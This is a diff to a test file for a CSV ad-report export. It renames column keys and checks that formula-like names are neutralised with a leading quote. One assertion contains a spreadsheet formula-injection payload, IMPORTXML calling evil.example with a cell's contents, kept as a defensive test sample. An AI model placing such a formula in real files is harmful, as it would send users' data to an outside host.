@@ -99,13 +99,13 @@ test('names and ids that start like a formula are written after a quote; dates, 
   const { text, rows } = await exportFile(client, { ...AD_ROWS, options: { include_ids: true, include_kind_and_platform: true } });
   assert.equal(rows.length, FORMULAS.length);
   for (const row of rows) {
-    const stored = FORMULAS[Number(row.Spend) - 1]!;
+    const stored = FORMULAS[Number(row.spend) - 1]!;
     for (const column of TEXT_COLUMNS) assert.equal(row[column], `'${stored}`, `${column} of ${JSON.stringify(stored)}`);
     assert.equal(row.date, DAY);
     assert.equal(row.kind, 'ad');
     assert.equal(row.currency, 'USD');
-    assert.equal(row.Clicks, '10');
-    assert.match(row.CPC!, /^0\.\d+$/);
+    assert.equal(row.clicks, '10');
+    assert.match(row.cpc!, /^0\.\d+$/);
   }
   // RFC 4180 still holds once prefixed: the quote goes inside the cell's quotes, its quotes doubled.
   assert.ok(text.includes(`"'=IMPORTXML(CONCAT(""http://evil.example/?"", A2), ""//a"")"`), text);
@@ -129,7 +129,7 @@ test('a metric below zero is written as a number, beside prefixed names', async 
     metrics: [{ id: 'spend' }, { id: 'net_revenue' }],
   });
   const store = rows.find((row) => row.platform === '');
-  assert.equal(store?.['Net revenue'], '-10', JSON.stringify(rows));
+  assert.equal(store?.net_revenue, '-10', JSON.stringify(rows));
   assert.deepEqual(rows.filter((row) => row !== store).map((row) => row.account).sort(), FORMULAS.map((text) => `'${text}`).sort());
 });
 
